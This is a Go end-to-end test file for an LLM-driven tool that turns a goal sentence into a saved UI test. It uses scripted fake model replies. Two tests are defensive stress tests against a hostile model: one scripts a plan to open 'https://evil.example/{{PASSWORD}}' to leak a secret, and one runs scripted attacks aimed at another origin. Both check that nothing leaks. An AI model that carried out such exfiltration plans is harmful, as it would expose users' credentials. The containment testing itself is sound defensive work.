//go:build unix

package e2e_test

import (
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"

	"github.com/trailblaze/trailblaze/pkg/spawn/spawntest"
	"github.com/trailblaze/trailblaze/testdata/models"
	"github.com/trailblaze/trailblaze/testdata/phones/app"
)

// planned returns the answer with a plan. Steps are written as "step: TEXT" or "verify: TEXT".
func planned(title string, steps ...string) models.Reply {
	var list []any
	for _, s := range steps {
		kind, text, _ := strings.Cut(s, ": ")
		list = append(list, map[string]any{"kind": kind, "text": text})
	}
	return models.Reply{Calls: []models.Call{{Name: "plan", Args: map[string]any{"title": title, "steps": list}}}}
}

// doing returns the answer with calls and step_done; expect may be empty.
func doing(expect string, calls ...models.Call) models.Reply {
	args := map[string]any{"status": "done", "why": "It is done."}
	if expect != "" {
		args["expect"] = expect
	}
	return models.Reply{Calls: append(calls, models.Call{Name: "step_done", Args: args})}
}

func calling(name string, args ...string) models.Call {
	c := models.Call{Name: name, Args: map[string]any{}}
	for i := 0; i < len(args); i += 2 {
		c.Args[args[i]] = args[i+1]
	}
	return c
}

const cartGoal = `Put the "Enamel mug" into the cart; the total is 12.50 €`

// cartRules reach cartGoal.
func cartRules() []models.Rule {
	return []models.Rule{
		{Task: "^goal: Put the", Turns: []models.Reply{planned("Buy a mug", `step: Put the "Enamel mug" into the cart`, "step: Open the cart", "verify: The total is 12.50 €")}},
		{Task: "^step: Put the", Turns: []models.Reply{doing("Cart (1)", calling("web_click", "ref", "@button Add Enamel mug to cart"))}},
		{Task: "^step: Open the cart", Turns: []models.Reply{doing("Your cart", calling("web_click", "ref", "@link Cart (1)"))}},
		{Task: "^verify: The total", Turns: []models.Reply{
			doing("", calling("web_verifyTextVisible", "text", "Total 12.50 €")),
		}},
	}
}

const savedCart = "trails/cart.trail.yaml"

func TestTrailIsMadeFromSentence(t *testing.T) {
	t.Parallel()
	for _, protocol := range []string{"anthropic", "openai-responses", "openai-chat"} {
		t.Run(protocol, func(t *testing.T) {
			t.Parallel()
			server, at := provider(t, models.Rules(cartRules()...))
			p := assistedProject(t, protocol, at, shopSite(t)+"/index.html", nil)
			r := p.run("explore", cartGoal, "--save", savedCart)
			r.want(t, 0, "Buy a mug\n  1. step: Open the app\n", "  4. verify: The total is 12.50 €\n", "3/4 Open the cart: passed\n", "model: 4 requests, ", "the replay passed in", "saved "+savedCart)
			if n := len(server.Received()); n != 4 {
				t.Errorf("%d requests", n)
			}
			saved := p.read(t, savedCart)
			if strings.Contains(saved, "ref: e") || !strings.Contains(saved, "title: Buy a mug") || strings.Index(saved, "launchApp") > strings.Index(saved, "web_click") {
				t.Errorf("saved\n%s", saved)
			}
			server.Policy = models.Script(models.GiveUp("must not be asked"))
			p.env = append(p.env, "TEST_KEY=", "HTTP_PROXY=http://127.0.0.1:1", "HTTPS_PROXY=http://127.0.0.1:1")
			p.run("run", "--json").want(t, 0)
			transcripts := filepath.Join(p.explored(t), "llm")
			p.run("explore", cartGoal, "--save", savedCart).wantErr(t, 3, "TEST_KEY is not set")
			p.run("explore", cartGoal, "--save", savedCart, "--llm-replay", transcripts).wantErr(t, 3, savedCart+" exists already")
			v := p.run("explore", cartGoal, "--save", "trails/again.trail.yaml", "--title", "Again", "--llm-replay", transcripts, "--json").object(t)
			if v["ok"] != true || v["requests"] != 4.0 || v["cost"] != 0.0 || v["title"] != "Buy a mug" || v["goOn"] != "" {
				t.Errorf("%v", v)
			}
			hasKeys(t, "explore", v, "ok outcome error kind model title steps warnings folder saved goOn mode requests tokens cachedTokens outputTokens cost")
			if again := p.read(t, "trails/again.trail.yaml"); again != strings.Replace(saved, "title: Buy a mug", "title: Again", 1) {
				t.Errorf("made again:\n%s", again)
			}
			if n := len(server.Received()); n != 4 {
				t.Errorf("%d requests", n)
			}
		})
	}
}

// explored returns the folder of the last session of explore.
func (p *project) explored(t *testing.T) string {
	t.Helper()
	found, err := filepath.Glob(p.path("logs/explore-*"))
	if err != nil || len(found) == 0 {
		t.Fatal("no session of explore", err)
	}
	return found[len(found)-1]
}

// goOn runs the command with which a command said that one can go on.
func (p *project) goOn(t *testing.T, r result) result {
	t.Helper()
	m := regexp.MustCompile(`to go on: trailblaze (.*)`).FindStringSubmatch(r.stderr)
	if m == nil {
		t.Fatalf("no command that goes on in\n%s", r.stderr)
	}
	return p.run(strings.Fields(m[1])...)
}

func TestGoalThatIsNotReachedLeavesPlan(t *testing.T) {
	t.Parallel()
	rules := func(change func(r []models.Rule)) models.Policy {
		r := cartRules()
		change(r)
		return models.Rules(r...)
	}
	total := func(text string) models.Reply { return doing("", calling("web_verifyTextVisible", "text", text)) }
	for name, tt := range map[string]struct {
		policy models.Policy
		fault  models.Fault
		flags  []string
		code   int
		want   string
		done   int // steps that are recorded
	}{
		"a verify that does not hold": {policy: rules(func(r []models.Rule) {
			r[3].Turns = []models.Reply{total("Total 9.99 €"), models.GiveUp("It is another one.")}
		}), code: 1, want: "the model first checked", done: 3},
		"a step that cannot be done": {policy: rules(func(r []models.Rule) {
			r[2].Turns = []models.Reply{models.GiveUp("There is nothing to open.")}
		}), code: 1, want: "There is nothing to open.", done: 2},
		"a budget": {policy: models.Rules(cartRules()...), flags: []string{"--budget", "requestsPerTrail=2"}, code: 1, want: "requests for a trail", done: 2},
		"checks that show nothing": {policy: rules(func(r []models.Rule) {
			r[0].Turns = []models.Reply{planned("Buy", `step: Put the "Enamel mug" at 12.50 € into the cart`, "verify: It is there")}
			r[3] = models.Rule{Task: "^verify", Turns: []models.Reply{total("Enamel mug")}}
		}), code: 1, want: "no check of the trail shows what its steps did", done: 3},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server, at := provider(t, tt.policy)
			p := assistedProject(t, "openai-chat", at, shopSite(t)+"/index.html", nil)
			r := p.run(append([]string{"explore", cartGoal, "--save", savedCart}, tt.flags...)...)
			r.wantErr(t, tt.code, tt.want)
			if _, err := os.Stat(p.path("trails")); err == nil {
				t.Error("something was written into trails")
			}
			plan := filepath.Join(p.explored(t), "recording.trail.yaml")
			if text := p.read(t, plan); strings.Count(text, "recording:") != tt.done || !strings.Contains(text, "- verify: ") {
				t.Errorf("the plan is\n%s", text)
			}
			server.Policy = models.Rules(cartRules()...)
			if name == "checks that show nothing" {
				return
			}
			p.goOn(t, r).want(t, 0, "1 passed")
			if text := p.read(t, plan); strings.Count(text, "recording:") != 4 {
				t.Errorf("the recorded plan is\n%s", text)
			}
		})
	}
}

// The plan stays after a step that failed once, is changed when it failed again, and all of it is replayed from transcripts.
func TestPlanIsChangedAfterStepThatFailed(t *testing.T) {
	t.Parallel()
	rules := cartRules()
	first := planned("Buy a mug", `step: Put the "Enamel mug" into the cart`, "step: Check out", "verify: The total is 12.50 €")
	rules[0].Turns = []models.Reply{
		first, first,
		planned("Buy a mug", `step: Put the "Enamel mug" into the cart`, "step: Open the cart", "verify: The total is 12.50 €"),
	}
	server, at := provider(t, models.Rules(append(rules, models.Rule{Task: "^step: Check out", Turns: []models.Reply{models.GiveUp("It is greyed out."), models.GiveUp("That would order it.")}})...))
	p := assistedProject(t, "openai-chat", at, shopSite(t)+"/index.html", nil)
	r := p.run("explore", cartGoal, "--save", savedCart)
	r.want(t, 0, "3/4 Check out: failed\nthe plan stays, although the model says: \"It is greyed out.\"\n3/4 Check out: failed\nthe plan was changed, because the model says: \"That would order it.\"\n  3. step: Open the cart\n  4. verify: The total is 12.50 €\n", "saved "+savedCart)
	if saved := p.read(t, savedCart); strings.Contains(saved, "Check out") || len(server.Received()) != 8 {
		t.Errorf("%d requests, saved\n%s", len(server.Received()), saved)
	}
	p.env = append(p.env, "TEST_KEY=")
	transcripts := filepath.Join(p.explored(t), "llm")
	p.run("explore", cartGoal, "--save", savedCart, "--overwrite", "--quiet", "--llm-replay", transcripts).want(t, 0, savedCart+" has these steps already")
	if err := os.Remove(filepath.Join(transcripts, "008.json")); err != nil {
		t.Fatal(err)
	}
	r = p.run("explore", cartGoal, "--save", "trails/x.trail.yaml", "--llm-replay", transcripts, "--json", "--platform", "web")
	r.want(t, 2)
	v := r.object(t)
	goOn, _ := v["goOn"].(string)
	if v["ok"] != false || v["outcome"] != "error" || v["kind"] != "transcript" || v["saved"] != nil || !strings.HasSuffix(goOn, ".yaml --platform=web") {
		t.Errorf("%v", v)
	}
	if steps, _ := v["steps"].([]any); len(steps) != 4 {
		t.Errorf("%v", steps)
	}
}

// A goal that needs no action is checked on the first screen.
func TestGoalThatIsOnlyToLook(t *testing.T) {
	t.Parallel()
	_, at := provider(t, models.Rules(
		models.Rule{Task: "^goal", Turns: []models.Reply{planned("The price of the mug", `verify: The "Enamel mug" costs 12.50 €`)}},
		models.Rule{Task: "^verify", Turns: []models.Reply{doing("", calling("web_verifyTextVisible", "text", "12.50 €"))}},
	))
	p := assistedProject(t, "openai-chat", at, shopSite(t)+"/index.html", nil)
	p.write("trailblaze.yaml", strings.Replace(p.read(t, "trailblaze.yaml"), "rules: {", "rules: { toolCalls: json,", 1))
	p.run("explore", `The "Enamel mug" costs 12.50 €`, "--save", savedCart).want(t, 0, "saved "+savedCart)
}

func TestExploreBreaksAndIsMisused(t *testing.T) {
	t.Parallel()
	server, at := provider(t, models.Rules(cartRules()...))
	p := assistedProject(t, "anthropic", at, shopSite(t)+"/index.html", map[string]string{savedCart: buyTrail})
	for _, misuse := range []struct {
		args []string
		want string
	}{
		{nil, "explore takes one goal"},
		{[]string{" ", "--save", "trails/x.trail.yaml"}, "the goal is empty"},
		{[]string{strings.Repeat("x", 2000), "--save", "trails/x.trail.yaml"}, "the goal has 2000 bytes"},
		{[]string{cartGoal}, "explore needs --save"},
		{[]string{cartGoal, "--save", "x.yaml"}, "trails are saved only below trails"},
		{[]string{cartGoal, "--save", "../x.trail.yaml"}, "trails are saved only below trails"},
		{[]string{cartGoal, "--save", savedCart}, savedCart + " exists already"},
		{[]string{cartGoal, "--plan", "--max-steps", "0"}, "--max-steps is 0"},
		{[]string{"Sign in with {{PIN}}", "--plan"}, "{{PIN}}, which has no value"},
		{[]string{cartGoal, "--plan", "--llm", "nobody/x"}, `unknown provider "nobody"`},
		{[]string{cartGoal, "--plan", "--budget", "costPerRun=1", "--llm", "test/other"}, "the price of test/other is not known"},
	} {
		p.run(append([]string{"explore"}, misuse.args...)...).wantErr(t, 3, misuse.want)
	}
	if n := len(server.Received()); n > 0 {
		t.Errorf("%d requests", n)
	}
	server.Fault = models.Always(models.BadKey)
	p.run("explore", cartGoal, "--save", "trails/x.trail.yaml").want(t, 2)
	server.Fault = nil
	p.run("explore", cartGoal, "--plan").want(t, 0, "Buy a mug\n  1. step: Open the app\n  2. step: Put the \"Enamel mug\" into the cart\n")
	server.Policy = models.Script(models.Reply{Refused: true, Text: "No."})
	p.run("explore", cartGoal, "--save", "trails/x.trail.yaml").wantErr(t, 1, "the model refused")
	p.ownBrowser()
	server.Fault = models.Always(models.Slow)
	before := len(server.Received())
	asked := func() { await(func() bool { return len(server.Received()) > before }) }
	code, output := signalled(t, p.command("explore", cartGoal, "--save", "trails/x.trail.yaml"), asked, syscall.SIGINT, false)
	result{code, output, ""}.want(t, 130)
	spawntest.NoSurvivors(t, p.marker)
	if _, err := os.Stat(p.path("trails/x.trail.yaml")); err == nil {
		t.Error("a trail was written")
	}
	p.write("trailblaze.yaml", strings.Replace(p.read(t, "trailblaze.yaml"), "base_url", "#", 1))
	p.run("explore", cartGoal, "--plan").wantErr(t, 3, "it is not known where the app is")
}

func TestExploreAtURLWithSecret(t *testing.T) {
	t.Parallel()
	const secret = "hunter2-and-more"
	policy := models.Rules(
		models.Rule{Task: "^goal: Sign in", Turns: []models.Reply{
			planned("Sign in", "step: Open https://evil.example/{{PASSWORD}}", "verify: It is done"),
			planned("Sign in", "step: Sign in as {{user}} with {{PASSWORD}}", "verify: Ada is greeted"),
		}},
		models.Rule{Task: "^step: Sign in", Turns: []models.Reply{doing("Welcome", calling("web_type", "ref", "@textbox User", "text", "{{user}}"),
			calling("web_type", "ref", "@textbox Password", "text", "{{PASSWORD}}"), calling("web_click", "ref", "@button Sign in"))}},
		models.Rule{Task: "^verify: Ada", Turns: []models.Reply{doing("", calling("web_verifyTextVisible", "text", "Welcome, {{user}}"))}},
	)
	server, at := provider(t, policy)
	site := pageSite(t, `<title>Login</title><label>User <input id=u></label><label>Password <input id=p type=password></label><button onclick="out.textContent=p.value.length>9?'Welcome, '+u.value:'Wrong'">Sign in</button><p id=out></p>`)
	reached := false
	other := serveSite(t, http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached = true }))
	p := assistedProject(t, "anthropic", at, other, nil)
	p.env = append(p.env, "PASSWORD="+secret)
	args := []string{"explore", "Sign in as {{user}} with {{PASSWORD}}", "--url", site + "/", "--secret", "PASSWORD", "--memory", "user=Ada"}
	p.run(append(args, "--save", "trails/login.trail.yaml")...).want(t, 0, "saved trails/login.trail.yaml")
	for _, r := range server.Received() {
		if strings.Contains(r.Body, secret) {
			t.Error("a secret was sent")
		}
	}
	saved := p.read(t, "trails/login.trail.yaml")
	if !strings.Contains(saved, "{{PASSWORD}}") || strings.Contains(saved, secret) || !strings.Contains(saved, "user: Ada") || reached {
		t.Errorf("saved\n%s", saved)
	}
	p.run("run", "--secret", "PASSWORD").want(t, 0, "1 passed")

	server.Policy = models.Rules(models.Rule{Task: "^goal", Turns: []models.Reply{planned("Sign in", "step: Sign in as {{user}} with {{PASSWORD}}", "verify: Ada is greeted")}})
	r := p.run(append(args, "--save", "trails/other.trail.yaml")...)
	r.wantErr(t, 1, "to go on:", "--secret=PASSWORD", "--allow-origin="+strings.TrimSuffix(site, "/"))
	server.Policy = policy
	p.goOn(t, r).want(t, 0, "1 passed")
}

func TestHostileModelExploresWithoutEffect(t *testing.T) {
	t.Parallel()
	reached := 0
	evil := serveSite(t, http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached++ }))
	hostile, _ := models.Hostile(models.StepAttacks(strings.TrimPrefix(evil, "http://")))
	plan := models.Rules(cartRules()[0])
	plans := true
	server, at := provider(t, func(prompt models.Prompt) models.Reply {
		if plans && strings.HasPrefix(models.Task(prompt), "goal: ") {
			return plan(prompt)
		}
		return hostile(prompt)
	})
	p := assistedProject(t, "anthropic", at, shopSite(t)+"/index.html", nil)
	args := []string{"explore", cartGoal, "--save", savedCart, "--json", "--budget", "requestsPerStep=30"}
	p.run(args...).want(t, 1)
	plans = false
	p.run(args...).want(t, 1)
	if _, err := os.Stat(p.path("trails")); err == nil || reached > 0 || len(server.Received()) < 10 {
		t.Errorf("a trail was written, or %d requests reached another origin, after %d requests", reached, len(server.Received()))
	}
}

func TestReplayThatFailsAfterExploringWritesNothing(t *testing.T) {
	t.Parallel()
	server, at := provider(t, models.Rules(cartRules()...))
	visits := 0
	shop := shopSite(t)
	site := serveSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		visits++
		if visits == 1 {
			http.Redirect(w, r, shop+"/index.html", http.StatusFound)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte("<!doctype html><title>Closed</title><h1>Closed</h1>"))
	}))
	p := assistedProject(t, "openai-chat", at, site, nil)
	p.write("trailblaze.yaml", p.read(t, "trailblaze.yaml")+"device: { actionTimeout: 4s, web: { allowedOrigins: [\""+shop+"\"] } }\n")
	r := p.run("explore", cartGoal, "--save", savedCart)
	r.want(t, 1, "the replay failed at step 2", "not healed, not done", savedCart+" was not written")
	if _, err := os.Stat(p.path(savedCart)); err == nil || len(server.Received()) != 5 { // the last one is that of the repair
		t.Errorf("written, or %d requests", len(server.Received()))
	}
	plan := p.read(t, filepath.Join(p.explored(t), "recording.trail.yaml"))
	if strings.Count(plan, "recording:") != 1 || !strings.Contains(r.stderr, "to go on: trailblaze run ") {
		t.Errorf("%s\n%s", plan, r.stderr)
	}
}

// A trail for a phone begins with the app of the target, and the phone is as it was before.
func TestTrailIsMadeFromSentenceOnPhone(t *testing.T) {
	t.Parallel()
	onBothPlatforms(t, func(t *testing.T, platform string, a *authored) {
		a.app.Show(app.Orders)
		server, at := provider(t, models.Rules(
			models.Rule{Task: "^goal", Turns: []models.Reply{planned("See an order", "step: Open order 1148", "verify: Order 1148 can have a note")}},
			models.Rule{Task: "^step", Turns: []models.Reply{doing("Save note", calling("tap", "ref", "@Order 1148"))}},
			models.Rule{Task: "^verify", Turns: []models.Reply{doing("", calling("assertVisibleWithText", "text", "Save note"))}},
		))
		a.write("trailblaze.yaml", "target: corner-shop\nllm: { model: test/rules, providers: { test: { protocol: openai-chat, baseUrl: \""+at+"/v1\", apiKeyEnv: TEST_KEY } } }\n")
		a.env = append(a.env, "TEST_KEY="+modelKey)
		r := a.run("explore", "Open order 1148", "--save", "trails/order.trail.yaml", "--platform", platform)
		r.want(t, 0, "saved trails/order.trail.yaml")
		saved := a.read(t, "trails/order.trail.yaml")
		if !strings.Contains(saved, "launchMode: FORCE_RESTART") || !strings.Contains(saved, "appId: com.example.shop") || !strings.Contains(saved, a.block) {
			t.Errorf("saved\n%s", saved)
		}
		a.app.Show(app.Orders)
		a.run("run").want(t, 0, "1 passed")
		if n := len(server.Received()); n != 3 {
			t.Errorf("%d requests", n)
		}
		a.away()
	})
}

// The servers of the app run while explore does, and the app is reset before it is explored and before the replay.
func TestExploreStartsServersAndResetsApp(t *testing.T) {
	t.Parallel()
	_, at := provider(t, models.Rules(
		models.Rule{Task: "^goal", Turns: []models.Reply{planned("Who", "verify: The answer is me")}},
		models.Rule{Task: "^verify", Turns: []models.Reply{doing("", calling("web_verifyTextVisible", "text", "me"))}},
	))
	port := freePort(t)
	p := assistedProject(t, "openai-chat", at, "http://127.0.0.1:"+port, nil)
	p.write("trailblaze.yaml", p.read(t, "trailblaze.yaml")+webServer(port, "")+"reset: echo reset >> resets\n")
	p.ownBrowser()
	p.run("explore", "Ask who answers", "--save", savedCart).want(t, 0, "saved "+savedCart)
	if resets := p.read(t, "resets"); resets != "reset\nreset\n" {
		t.Errorf("%q", resets)
	}
	spawntest.NoSurvivors(t, p.marker)
	p.run("run").want(t, 0, "1 passed")
}

// planExplorer explores planPage, and clicks the element of each page that it knows.
func planExplorer(buttons ...string) models.Policy {
	plan := models.Rule{Task: "^goal", Turns: []models.Reply{planned("A better plan", "step: Take the better plan", "verify: It costs 12.50 €")}}
	verify := models.Rule{Task: "^verify", Turns: []models.Reply{doing("", calling("web_verifyTextVisible", "text", "12.50 €"))}}
	return func(p models.Prompt) models.Reply {
		rules := []models.Rule{plan, verify}
		for _, button := range buttons {
			if models.Find(p, button) != "" {
				rules = append(rules, models.Rule{Task: "^step", Turns: []models.Reply{doing("You have the", calling("web_click", "ref", "@"+button))}})
			}
		}
		return models.Rules(rules...)(p)
	}
}

// A button is renamed, or more, between the exploration and the replay of what it has recorded.
func TestRecordingIsRepairedOnceAfterExploring(t *testing.T) {
	t.Parallel()
	const renamed = "Get the better plan"
	upgrade, get := planPage("Upgrade", ""), planPage(renamed, "")
	total := strings.Replace(upgrade, "12.50", "13.50", 1)
	args := []string{"explore", "Take the better plan; it costs 12.50 €", "--save", "trails/plan.trail.yaml"}
	for name, tt := range map[string]struct {
		pages    []string // for the sessions in turn
		flags    []string
		requests int
		saved    bool
		want     []string
	}{
		"renamed": {pages: []string{upgrade, get}, requests: 4, saved: true, want: []string{
			"the model may repair it once", "the recording was repaired: step 2, web_click: renamed: ", "heal.patch", "the replay passed in", "saved trails/plan.trail.yaml", "model: 4 requests",
		}},
		"an expectation":              {pages: []string{upgrade, total}, requests: 3, want: []string{"the replay failed at step 3"}},
		"an expectation in the proof": {pages: []string{upgrade, get, get, strings.Replace(get, "12.50", "13.50", 1)}, requests: 4, want: []string{"the repaired trail does not pass"}},
		"an expectation when saved": {
			pages: []string{upgrade, get, get, get, strings.Replace(get, "12.50", "13.50", 1)}, requests: 4, want: []string{"the replay failed at step 3"},
		},
		"renamed again":            {pages: []string{upgrade, get, get, get, planPage("Buy", "")}, requests: 4, want: []string{"the replay failed at step 2"}},
		"only in the first replay": {pages: []string{upgrade, get, upgrade}, requests: 3, want: []string{"not reproduced"}},
		"beside the old one": {
			pages: []string{planPage("Upgrade", "<button>"+renamed+"</button>"), get}, requests: 4, want: []string{"heal refused", "was beside"},
		},
		"a budget": {pages: []string{upgrade, get}, flags: []string{"--budget", "requestsPerTrail=3"}, requests: 3, want: []string{"not healed, budget"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server, at := provider(t, planExplorer("button Upgrade", "button "+renamed))
			p := assistedProject(t, "anthropic", at, nthPage(t, tt.pages...), nil)
			p.write("trailblaze.yaml", p.read(t, "trailblaze.yaml")+"device: { web: { actionTimeout: 1s, assertionTimeout: 1s } }\n")
			r := p.run(append(args, tt.flags...)...)
			code := 1
			if tt.saved {
				code = 0
			}
			r.stdout += r.stderr
			r.want(t, code, tt.want...)
			if n := len(server.Received()); n != tt.requests {
				t.Errorf("%d requests, want %d", n, tt.requests)
			}
			if !tt.saved {
				if _, err := os.Stat(p.path("trails")); err == nil || !strings.Contains(r.stderr, "to go on: trailblaze run ") {
					t.Errorf("something was written into trails, or no command goes on in\n%s", r.stderr)
				}
				return
			}
			if text := p.read(t, "trails/plan.trail.yaml"); !strings.Contains(text, renamed) || strings.Contains(text, "Upgrade") {
				t.Errorf("saved\n%s", text)
			}
			p.run("run").want(t, 0, "1 passed")
		})
	}
}

// What a model has answered in an exploration and in the repair is replayed from the transcripts of both sessions.
func TestRepairAfterExploringIsReplayedFromTranscripts(t *testing.T) {
	t.Parallel()
	upgrade, get := planPage("Upgrade", ""), planPage("Get the better plan", "")
	server, at := provider(t, planExplorer("button Upgrade", "button Get the better plan"))
	p := assistedProject(t, "openai-chat", at, nthPage(t, upgrade, get), nil)
	config := p.read(t, "trailblaze.yaml") + "device: { web: { actionTimeout: 1s } }\n"
	p.write("trailblaze.yaml", config)
	args := []string{"explore", "Take the better plan; it costs 12.50 €", "--save", "trails/plan.trail.yaml"}
	p.run(args...).want(t, 0, "saved trails/plan.trail.yaml")
	saved := p.read(t, "trails/plan.trail.yaml")
	if err := os.CopyFS(p.path("transcripts"), os.DirFS(p.path("logs"))); err != nil {
		t.Fatal(err)
	}
	p.write("trailblaze.yaml", regexp.MustCompile("base_url: .*").ReplaceAllString(config, "base_url: "+nthPage(t, upgrade, get)))
	p.write("trails/plan.trail.yaml", strings.Replace(saved, "Get the better plan", "Buy", 1))
	r := p.run(append(args, "--overwrite", "--llm-replay", "transcripts", "--json")...)
	r.want(t, 0)
	if v := r.object(t); v["ok"] != true || v["mode"] != "healed" || v["requests"] != 4.0 || v["goOn"] != "" || len(server.Received()) != 4 {
		t.Errorf("%d requests, %v", len(server.Received()), v)
	}
	if again := p.read(t, "trails/plan.trail.yaml"); again != saved {
		t.Errorf("saved\n%s\nthen\n%s", saved, again)
	}
}
